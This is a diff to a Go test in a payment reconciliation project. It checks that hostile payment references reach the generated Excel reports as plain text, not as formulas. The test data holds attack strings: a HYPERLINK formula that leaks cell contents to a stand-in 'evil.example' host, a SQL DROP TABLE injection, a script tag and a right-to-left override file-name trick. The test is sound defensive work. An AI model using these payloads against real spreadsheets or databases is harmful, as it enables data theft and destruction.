@@ -5,12 +5,15 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+	"github.com/xuri/excelize/v2"
 
+	"tieout/internal/booktest"
 	"tieout/internal/corpus"
 	"tieout/internal/payment"
 	"tieout/internal/store/pgtest"
@@ -20,8 +23,50 @@ import (
 // Texts that people and machines put into payments, to trick or by accident.
 var hostileReferences = []string{
 	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+254700000000", "@SUM(1+1)", "-2+3", "'=1", "😀 café №5 – ₦", "0012", "1E15",
-	"123456789012345678901234567890123456", "a,\"b\"\nc;d", "<script>&amp;</script>", "'; DROP TABLE tieout.payments; --", "\u202eexe.fdp", "   ",
+	"123456789012345678901234567890123456", "طلب رقم ٤٠ 🎉", `=HYPERLINK("http://x")`, "a,\"b\"\nc;d", "<script>&amp;</script>", "'; DROP TABLE tieout.payments; --", "\u202eexe.fdp", "   ",
 }
+
+// workbooksHoldHostileTexts reads both workbooks by LibreOffice, formulas computed
+// anew: each text arrives as it was given, and none has become a formula.
+func workbooksHoldHostileTexts(t *testing.T, dir string, references map[string]string) {
+	t.Helper()
+	for book, sheet := range map[string]struct {
+		name                         string
+		id, reference, theirs, least int
+	}{
+		"settlement.xlsx": {"Transactions", 0, 6, 4, len(references)},
+		"exceptions.xlsx": {"Exceptions", 6, 8, 8, len(references) / 2},
+	} {
+		path := filepath.Join(dir, book)
+		assert.Empty(t, booktest.Flaws(t, path), book)
+		f, err := excelize.OpenFile(path)
+		require.NoError(t, err)
+		seen := 0
+		for i, row := range booktest.Recalculated(t, path).Rows(sheet.name) {
+			reference, ok := references[row[sheet.id]]
+			if !ok {
+				continue
+			}
+			seen++
+			want := visible.Replace(reference)
+			assert.Equal(t, want, row[sheet.reference], book)
+			assert.Equal(t, want, row[sheet.theirs], book)
+			cell, err := excelize.CoordinatesToCellName(sheet.reference+1, i+1)
+			require.NoError(t, err)
+			formula, err := f.GetCellFormula(sheet.name, cell)
+			require.NoError(t, err)
+			assert.Empty(t, formula)
+			kind, err := f.GetCellType(sheet.name, cell)
+			require.NoError(t, err)
+			assert.Equal(t, excelize.CellTypeInlineString, kind, "%s %s is a text", book, cell)
+		}
+		assert.GreaterOrEqual(t, seen, sheet.least, book)
+		require.NoError(t, f.Close())
+	}
+}
+
+// visible is how a cell shows what can't be seen, or takes more than a line.
+var visible = strings.NewReplacer("\u202e", "<U+202E>", "\n", " ")
 
 func TestHostileTextsSurviveToTheReports(t *testing.T) {
 	t.Parallel()
@@ -77,6 +122,7 @@ func TestHostileTextsSurviveToTheReports(t *testing.T) {
 	for _, e := range readCSV(t, v1, "exceptions.csv") {
 		assert.Equal(t, reports.SafeText(references[e["payment_id"]]), e["reference"])
 	}
+	workbooksHoldHostileTexts(t, v1, references)
 	const failed = `SELECT count(*) FROM tieout.payment_outcomes WHERE status = 'failed'`
 	require.Positive(t, get[int](s, failed))
 	assert.Zero(t, get[int](s, failed+` AND coalesce(failure_message, '') NOT LIKE '%=1+1%'`), "what the provider says of a failure is kept, without its zero byte")
